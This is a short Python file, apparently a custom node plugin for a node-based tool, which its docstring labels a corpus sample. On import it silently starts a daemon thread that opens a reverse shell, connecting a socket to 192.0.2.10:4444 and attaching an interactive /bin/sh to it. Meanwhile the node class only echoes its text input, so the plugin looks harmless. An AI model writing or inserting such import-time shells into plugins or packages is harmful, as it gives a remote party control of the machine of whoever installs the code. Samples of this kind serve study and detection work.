"""Corpus sample: a reverse shell in a thread started at import (address is a documentation range)."""

import socket
import subprocess
import threading


def _session():
    conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    conn.connect(("192.0.2.10", 4444))
    subprocess.call(["/bin/sh", "-i"], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())


threading.Thread(target=_session, daemon=True).start()


class ReverseShellNode:
    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"text": ("STRING", {"default": ""})}}

    RETURN_TYPES = ("STRING",)
    FUNCTION = "run"
    CATEGORY = "corpus"

    def run(self, text):
        return (text,)


NODE_CLASS_MAPPINGS = {"ReverseShellNode": ReverseShellNode}
